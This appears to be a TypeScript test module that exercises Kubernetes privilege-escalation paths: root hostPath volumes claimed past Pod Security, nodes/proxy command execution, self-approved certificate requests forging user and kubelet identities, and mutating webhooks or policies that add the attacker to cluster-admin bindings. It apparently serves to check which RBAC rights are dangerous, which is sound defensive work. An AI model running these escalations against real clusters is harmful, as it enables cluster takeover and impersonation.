/** Attacks on what all stages share. */
import { generateKeyPairSync, type KeyObject } from 'node:crypto'
import { request } from 'node:https'
import { eventually } from '../../../control-plane/eventually.ts'
import { type CertificateName, certificateRequest } from '../../../control-plane/x509.ts'
import {
	type Attack,
	all,
	at,
	handsOn,
	hasNow,
	labelled,
	node,
	prize,
	Refused,
	type Scene,
	type SetScene,
	send,
	type Way,
} from './attack.ts'
import { podSpec } from './pods.ts'

const certificates = 'certificates.k8s.io'
const admission = 'admissionregistration.k8s.io'
const rbac = 'rbac.authorization.k8s.io'

/** A directory of the node as a volume that is claimed: Pod Security looks into no claims. */
function mounts(rights: readonly string[], type: 'json' | 'apply'): Way {
	return {
		rights: [...rights, 'create pods'],
		perform: async ({ admin, me, home, tag }) => {
			const volume = {
				apiVersion: 'v1',
				kind: 'PersistentVolume',
				metadata: { name: tag },
				spec: {
					capacity: { storage: '1Gi' },
					accessModes: ['ReadWriteOnce'],
					hostPath: { path: '/' },
					storageClassName: tag,
				},
			}
			if (type === 'json') await send(me, 'POST', at('persistentvolumes'), volume)
			else await send(me, 'PATCH', at('persistentvolumes', undefined, tag), volume, 'apply')
			const claim = {
				spec: { accessModes: ['ReadWriteOnce'], storageClassName: tag, resources: { requests: { storage: '1Gi' } } },
			}
			const volumes = [{ name: 'disk', ephemeral: { volumeClaimTemplate: claim } }]
			await send(me, 'POST', at('pods', home), { metadata: { name: tag }, spec: podSpec('plain', { volumes }) })
			// A claim of the pod's name and the volume's is made for it.
			await eventually(
				() =>
					admin.get<{ readonly spec: { readonly volumeName?: string }; readonly status: { readonly phase?: string } }>(
						at('persistentvolumeclaims', home, `${tag}-disk`),
					),
				({ spec, status }) => status.phase === 'Bound' && spec.volumeName === tag,
				{ what: 'the volume being bound' },
			)
		},
	}
}

interface CertificateRequest {
	readonly status: { readonly certificate?: string; readonly conditions?: readonly object[] }
}

const client = 'kubernetes.io/kube-apiserver-client'
const kubelet = 'kubernetes.io/kube-apiserver-client-kubelet'
const requests = `certificatesigningrequests.${certificates}`

interface Certified {
	readonly rights: readonly string[]
	readonly signer: string
	readonly name: CertificateName
	/** How it is approved; by itself where there is none. */
	readonly approve?: 'patch' | 'update'
	/** Whether the request is applied, not posted. */
	readonly applied?: boolean
	readonly use: (ask: Ask) => Promise<void>
}

type Ask = (path: string, body: unknown) => Promise<{ readonly status: number; readonly text: string }>

/** Has a certificate of somebody's name signed by the control plane, and uses it. */
function certified({ rights, signer, name, approve, applied = false, use }: Certified): Way {
	return {
		rights: rights.map((right) => `${right} everywhere`),
		perform: async ({ admin, me, tag, server }) => {
			const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
			const body = {
				apiVersion: `${certificates}/v1`,
				kind: 'CertificateSigningRequest',
				metadata: { name: tag },
				spec: {
					request: Buffer.from(certificateRequest(name, privateKey)).toString('base64'),
					signerName: signer,
					usages: ['digital signature', 'client auth'],
				},
			}
			const path = at(requests, undefined, tag)
			if (approve === undefined) await approvedByItself(me)
			const made = applied
				? await send<CertificateRequest>(me, 'PATCH', path, body, 'apply')
				: await send<CertificateRequest>(me, 'POST', at(requests), body)
			const status = { conditions: [{ type: 'Approved', status: 'True', reason: 'Stolen', message: '' }] }
			if (approve !== undefined)
				await send(me, approve === 'patch' ? 'PATCH' : 'PUT', `${path}/approval`, { ...made, status })
			// Certificates are no secret; without approval none comes.
			const { status: done } = await eventually(
				() => admin.get<CertificateRequest>(path),
				(seen) => seen.status.certificate !== undefined,
				{ what: `a certificate for ${name.commonName}`, deadline: 30_000 },
			)
			const certificate = Buffer.from(done.certificate ?? '', 'base64').toString()
			await use((where, content) => askWith(server, certificate, privateKey, where, content))
		},
	}
}

/** The control plane approves requests of those who may do this; it asks the authorizer as well. */
async function approvedByItself(me: Scene['me']): Promise<void> {
	const resourceAttributes = {
		verb: 'create',
		group: certificates,
		resource: 'certificatesigningrequests',
		subresource: 'nodeclient',
	}
	const { status } = await me.post<{ readonly status: { readonly allowed: boolean } }>(
		'/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
		{ spec: { resourceAttributes } },
	)
	if (!status.allowed) throw new Refused('nobody approves it')
}

/** A request whose client is known by a certificate. */
function askWith(
	{ url, authority }: Scene['server'],
	cert: string,
	key: KeyObject,
	path: string,
	body: unknown,
): ReturnType<Ask> {
	return new Promise((resolve, reject) => {
		const options = {
			method: 'POST',
			ca: authority,
			cert,
			key: key.export({ type: 'sec1', format: 'pem' }),
			headers: { 'Content-Type': 'application/json' },
		}
		const outgoing = request(new URL(path, url), options, (incoming) => {
			let text = ''
			incoming.setEncoding('utf8').on('data', (chunk: string) => (text += chunk))
			incoming.on('error', reject).on('end', () => resolve({ status: incoming.statusCode ?? 0, text }))
		})
		outgoing.on('error', reject).end(JSON.stringify(body))
	})
}

/** Does what only the victim may. */
async function asVictim(ask: Ask): Promise<void> {
	const path = `${at('configmaps', prize)}?dryRun=All`
	const { status, text } = await ask(path, { metadata: { generateName: 'taken-' } })
	if (status !== 201) throw new Error(text)
}

/** Says who it is: one of the nodes, and so whatever the pods there are. */
async function asKubelet(ask: Ask): Promise<void> {
	const { text } = await ask('/apis/authentication.k8s.io/v1/selfsubjectreviews', {})
	const { status } = JSON.parse(text) as {
		readonly status: { readonly userInfo: { readonly groups?: readonly string[] } }
	}
	if (status.userInfo.groups?.includes('system:nodes') !== true) throw new Error(text)
}

const victimName = { commonName: 'victim-user' }
const kubeletName = { commonName: `system:node:${node}`, organization: 'system:nodes' }

/** Whoever makes a binding that is not innocent any more. */
async function changesBindings({ admin, me, who, tag }: Scene): Promise<void> {
	const role = { apiGroup: rbac, kind: 'ClusterRole', name: 'cluster-admin' }
	const subject = { apiGroup: rbac, kind: 'User', name: 'somebody-else' }
	const innocent = { metadata: { name: `innocent-${tag}`, ...labelled(tag) }, roleRef: role, subjects: [subject] }
	const path = at(`clusterrolebindings.${rbac}`)
	interface Bound {
		readonly subjects: readonly { readonly name: string }[]
	}
	await eventually(
		() => admin.post<Bound>(`${path}?dryRun=All`, innocent),
		({ subjects }) => subjects.some(({ name }) => name === who),
		{ what: 'what others send being changed' },
	)
	await admin.post(path, innocent)
	await hasNow(me, all)
}

const bindings = [
	{ apiGroups: [rbac], apiVersions: ['v1'], operations: ['CREATE'], resources: ['clusterrolebindings'] },
]

function webhookConfiguration(url: string, tag: string, authority: string): object {
	const webhook = {
		name: 'change.attacks.example',
		clientConfig: { url, caBundle: Buffer.from(authority).toString('base64') },
		rules: bindings,
		objectSelector: { matchLabels: { tag } },
		sideEffects: 'None',
		failurePolicy: 'Ignore',
		admissionReviewVersions: ['v1'],
	}
	const kind = 'MutatingWebhookConfiguration'
	return { apiVersion: `${admission}/v1`, kind, metadata: { name: tag }, webhooks: [webhook] }
}

function byWebhook(verb: string, name = ''): Way {
	const resource = `mutatingwebhookconfigurations.${admission}`
	const fresh = verb === 'create'
	return {
		rights: [`${verb} ${resource}${name} everywhere`],
		...(fresh
			? {}
			: {
					setUp: ({ admin, tag }: SetScene) =>
						send(admin, 'POST', at(resource), { metadata: { name: tag }, webhooks: [] }),
				}),
		perform: async (scene) => {
			const { admin, me, tag, who, webhook, server } = scene
			const configuration = webhookConfiguration(`${webhook}/${who}`, tag, server.authority)
			const one = at(resource, undefined, tag)
			if (fresh) await send(me, 'POST', at(resource), configuration)
			else if (verb === 'patch') await send(me, 'PATCH', one, configuration)
			else {
				const { metadata } = await admin.get(one)
				await send(me, 'PUT', one, { ...configuration, metadata })
			}
			await changesBindings(scene)
		},
	}
}

function mutatingPolicy(who: string, tag: string): object {
	const value = `Object.subjects{apiGroup: "${rbac}", kind: "User", name: "${who}"}`
	const mutation = {
		patchType: 'JSONPatch',
		jsonPatch: { expression: `[JSONPatch{op: "add", path: "/subjects/-", value: ${value}}]` },
	}
	return {
		apiVersion: `${admission}/v1`,
		kind: 'MutatingAdmissionPolicy',
		metadata: { name: tag },
		spec: {
			matchConstraints: { resourceRules: bindings, objectSelector: { matchLabels: { tag } } },
			reinvocationPolicy: 'Never',
			failurePolicy: 'Ignore',
			mutations: [mutation],
		},
	}
}

const policies = `mutatingadmissionpolicies.${admission}`
const policyBindings = `mutatingadmissionpolicybindings.${admission}`
const bindsPolicy = (tag: string) => ({ metadata: { name: tag }, spec: { policyName: tag } })

/** Attacks on the cluster. */
export const clusterAttacks: readonly Attack[] = [
	{
		id: 'volumes',
		what: 'makes a volume of the disk of a node, and runs a pod that claims it past Pod Security',
		goal: 'keeper',
		ways: [
			mounts(['create persistentvolumes everywhere'], 'json'),
			mounts(['create persistentvolumes ={tag} everywhere', 'patch persistentvolumes ={tag} everywhere'], 'apply'),
		],
	},
	{
		id: 'nodes-proxy',
		what: 'talks to the kubelet of a node, which runs commands in its pods',
		goal: 'keeper',
		ways: (
			[
				['GET', 'get', ''],
				['POST', 'create', ''],
				['GET', 'get', ` =${node}`],
			] as const
		).map(([method, verb, name]) => ({
			rights: [`${verb} nodes/proxy${name} everywhere`],
			perform: ({ me }) =>
				handsOn(me, method, `${at('nodes/proxy', undefined, node)}/exec/${'vault/keeper/main'}?command=id`),
		})),
	},
	{
		id: 'certificate',
		what: 'approves its own request for a certificate with the name of a user',
		goal: 'victim',
		ways: [
			...(['patch', 'update'] as const).map((approve) =>
				certified({
					rights: [
						`create ${requests}`,
						`${approve} ${requests}/approval`,
						`approve signers.${certificates} =${client}`,
					],
					signer: client,
					name: victimName,
					approve,
					use: asVictim,
				}),
			),
			certified({
				rights: [
					`create ${requests}`,
					`patch ${requests}/approval ={tag}`,
					`approve signers.${certificates} =kubernetes.io/*`,
				],
				signer: client,
				name: victimName,
				approve: 'patch',
				use: asVictim,
			}),
			certified({
				rights: [
					`create ${requests} ={tag}`,
					`patch ${requests} ={tag}`,
					`patch ${requests}/approval`,
					`approve signers.${certificates}`,
				],
				signer: client,
				name: victimName,
				approve: 'patch',
				applied: true,
				use: asVictim,
			}),
		],
	},
	{
		id: 'kubelet-certificate',
		what: 'gets a certificate with the name of a node',
		goal: 'keeper',
		ways: [
			certified({
				rights: [`create ${requests}`, `patch ${requests}/approval`, `approve signers.${certificates} =${kubelet}`],
				signer: kubelet,
				name: kubeletName,
				approve: 'patch',
				use: asKubelet,
			}),
			certified({
				rights: [`create ${requests}`, `create ${requests}/nodeclient`],
				signer: kubelet,
				name: kubeletName,
				use: asKubelet,
			}),
		],
	},
	{
		id: 'mutate-by-webhook',
		what: 'has what others send changed by a program of its own',
		goal: 'everything',
		ways: [byWebhook('create'), byWebhook('update'), byWebhook('patch'), byWebhook('patch', ' ={tag}')],
	},
	{
		id: 'mutate-by-policy',
		what: 'has what others send changed by a policy',
		goal: 'everything',
		ways: (['create', 'patch'] as const).map(
			(verb): Way => ({
				rights: [`create ${policies} everywhere`, `${verb} ${policyBindings} everywhere`],
				...(verb === 'create'
					? {}
					: {
							setUp: ({ admin, tag }: SetScene) =>
								send(admin, 'POST', at(policyBindings), {
									metadata: { name: tag },
									spec: { policyName: `other-${tag}` },
								}),
						}),
				perform: async (scene) => {
					const { me, tag, who } = scene
					// Not before it may be bound: else those who lack the one right are helped by those who have it.
					if (verb === 'create') await send(me, 'POST', at(policyBindings), bindsPolicy(tag))
					else await send(me, 'PATCH', at(policyBindings, undefined, tag), bindsPolicy(tag))
					await send(me, 'POST', at(policies), mutatingPolicy(who, tag))
					await changesBindings(scene)
				},
			}),
		),
	},
	{
		id: 'mutate-by-bound-policy',
		what: 'changes a policy that changes what others send',
		goal: 'everything',
		ways: (['patch', 'update'] as const).map((verb) => ({
			rights: [`${verb} ${policies}${verb === 'patch' ? ' ={tag}' : ''} everywhere`],
			setUp: async ({ admin, tag }) => {
				await send(admin, 'POST', at(policies), mutatingPolicy('nobody', tag))
				await send(admin, 'POST', at(policyBindings), bindsPolicy(tag))
			},
			perform: async (scene) => {
				const { admin, me, tag, who } = scene
				const one = at(policies, undefined, tag)
				const policy = mutatingPolicy(who, tag)
				if (verb === 'patch') await send(me, 'PATCH', one, policy)
				else {
					const { metadata } = await admin.get(one)
					await send(me, 'PUT', one, { ...policy, metadata })
				}
				await changesBindings(scene)
			},
		})),
	},
]
